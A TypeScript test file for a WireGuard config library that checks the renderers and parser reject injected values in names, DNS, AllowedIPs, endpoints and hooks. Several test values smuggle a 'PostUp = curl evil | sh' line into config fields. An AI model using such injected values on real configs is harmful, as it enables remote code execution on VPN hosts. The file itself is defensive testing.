// The injection table of issue 2: a newline or "[Peer]" in a name, DNS, AllowedIPs or endpoint; a
// 10 KB value; NUL; invalid UTF-8 — each rejected with the field named, through every entry point.
import { describe, expect, it } from "vitest";
import { ValidationError } from "../errors.js";
import { generateKeyPair } from "../keys/index.js";
import { type ClientConfigInput, renderClientConfig } from "./client-config.js";
import { parseWgQuick } from "./parse.js";
import { renderWgQuick, renderWgSetconf } from "./render.js";
import { emptyInterface, type WgQuickFile } from "./types.js";

const client = generateKeyPair();
const server = generateKeyPair();
const tenKb = "a".repeat(10 * 1024);

function rejection(run: () => unknown): ValidationError {
  try {
    run();
  } catch (error) {
    expect(error).toBeInstanceOf(ValidationError);
    return error as ValidationError;
  }
  throw new Error("expected a ValidationError, but the value was accepted");
}

const hostile: Array<[label: string, value: string]> = [
  ["a newline and a section", "x\n[Peer]"],
  ["a newline and a key", "x\nPostUp = curl evil | sh"],
  ["a CR", "x\r[Peer]"],
  ["U+2028", "x\u2028[Peer]"],
  ['"[Peer]"', "[Peer]"],
  ['"[Interface]"', "x [Interface]"],
  ["a 10 KB value", tenKb],
  ["NUL", "x\u0000y"],
  ["a lone surrogate", "x\ud800"],
];

type Field = "name" | "dns" | "allowedIps" | "endpoint";
const validClient: ClientConfigInput = {
  name: "alice",
  privateKey: client.privateKey,
  addresses: ["198.51.100.2/32"],
  dns: ["198.51.100.1"],
  serverPublicKey: server.publicKey,
  endpoint: "vpn.example.com:51820",
  allowedIps: ["0.0.0.0/0"],
};
const clientWith = (field: Field, value: string): ClientConfigInput =>
  field === "dns" || field === "allowedIps"
    ? { ...validClient, [field]: [...validClient[field], value] }
    : { ...validClient, [field]: value };

const validFile: WgQuickFile = {
  interface: {
    ...emptyInterface(),
    privateKey: server.privateKey,
    addresses: ["198.51.100.1/24"],
    dns: ["198.51.100.1"],
  },
  peers: [
    { publicKey: generateKeyPair().publicKey, allowedIps: ["198.51.100.3/32"], extra: [] },
    {
      name: "bob",
      publicKey: client.publicKey,
      allowedIps: ["198.51.100.2/32"],
      endpoint: "vpn.example.com:1",
      extra: [],
    },
  ],
};
const fileWith = (field: Field, value: string): [WgQuickFile, string] => {
  if (field === "dns") {
    return [
      { ...validFile, interface: { ...validFile.interface, dns: ["198.51.100.1", value] } },
      "interface.dns",
    ];
  }
  const peers = [...validFile.peers];
  const peer = peers[1] as WgQuickFile["peers"][1];
  peers[1] =
    field === "allowedIps"
      ? { ...peer, allowedIps: [...peer.allowedIps, value] }
      : { ...peer, [field]: value };
  return [{ ...validFile, peers }, `peers[1].${field}`];
};

const fields: Field[] = ["name", "dns", "allowedIps", "endpoint"];
const table = fields.flatMap((field) => hostile.map(([label, value]) => [field, label, value] as const));

describe("injection table", () => {
  it.each(table)("renderClientConfig: %s with %s is rejected, field named", (field, _label, value) => {
    expect(rejection(() => renderClientConfig(clientWith(field, value))).field).toBe(field);
  });

  it.each(table)(
    "renderWgQuick and renderWgSetconf: %s with %s is rejected, field named",
    (field, _label, value) => {
      const [file, path] = fileWith(field, value);
      expect(rejection(() => renderWgQuick(file)).field).toBe(path);
      if (field !== "name" && field !== "dns")
        expect(rejection(() => renderWgSetconf(file)).field).toBe(path);
    },
  );

  // In a file, a newline simply ends the line, so the parser's cases are the ones a single line can carry.
  const lineOf: Record<Field, (value: string) => string> = {
    name: (v) => `# Name = ${v}`,
    dns: (v) => `DNS = 198.51.100.1, ${v}`,
    allowedIps: (v) => `AllowedIPs = 198.51.100.2/32, ${v}`,
    endpoint: (v) => `Endpoint = ${v}`,
  };
  const parsedField: Record<Field, string> = {
    name: "peers[0].name",
    dns: "interface.dns",
    allowedIps: "peers[0].allowedIps",
    endpoint: "peers[0].endpoint",
  };
  const fileText = (field: Field, line: string) =>
    field === "dns"
      ? `[Interface]\n${line}\n`
      : `[Interface]\n[Peer]\nPublicKey = ${client.publicKey}\n${line}\n`;
  const oneLine: Array<[string, string]> = [
    ['"[Peer]"', "[Peer]"],
    ['"[Interface]"', "x[Interface]"],
    ["a 10 KB value", tenKb],
    ["NUL", "x\u0000y"],
    ["a CR", "x\ry"],
    ["a lone surrogate", "x\udc00"],
    ["an escape sequence", "x\u001b[2Jy"],
  ];
  const parseTable = fields.flatMap((field) =>
    oneLine.map(([label, value]) => [field, label, value] as const),
  );

  it.each(parseTable)("parseWgQuick: %s with %s is rejected, field named", (field, _label, value) => {
    const error = rejection(() => parseWgQuick(fileText(field, lineOf[field](value))));
    expect(error.field).toBe(parsedField[field]);
    expect(error.message.length).toBeLessThan(300);
  });

  it.each(fields)("parseWgQuick: %s with invalid UTF-8 bytes is rejected, field named", (field) => {
    const text = fileText(field, lineOf[field]("caf\u00e9.example.com:1"));
    const latin1 = Buffer.from(text, "latin1"); // "é" as the lone byte 0xE9: not UTF-8
    const error = rejection(() => parseWgQuick(latin1));
    expect(error.field).toBe(parsedField[field]);
    expect(error.message).toMatch(/not valid UTF-8/);
  });

  it.each([
    ["a hook with a newline", { postUp: ["echo a\nPostUp = curl evil | sh"] }, "interface.postUp"],
    ["a hook with a comment sign", { postDown: ["echo # cut"] }, "interface.postDown"],
    ["a 10 KB hook", { preUp: [tenKb] }, "interface.preUp"],
    ["a key that injects '='", { extra: [["PostUp = curl evil | sh #", "x"]] }, "interface.extra"],
    ["an extra key that is a known key", { extra: [["Address", "203.0.113.1/24"]] }, "interface.extra"],
    ["an extra value with NUL", { extra: [["Jc", "4\u0000"]] }, "interface.extra"],
    ["a table with a newline", { table: "off\nPostUp = x" }, "interface.table"],
    ["a private key with a newline", { privateKey: `${server.privateKey}\n` }, "interface.privateKey"],
  ] as const)("renderWgQuick: %s is rejected, field named", (_label, change, field) => {
    const file = { ...validFile, interface: { ...validFile.interface, ...change } } as WgQuickFile;
    const error = rejection(() => renderWgQuick(file));
    expect(error.field).toBe(field);
    expect(error.message).not.toContain(server.privateKey);
  });
});
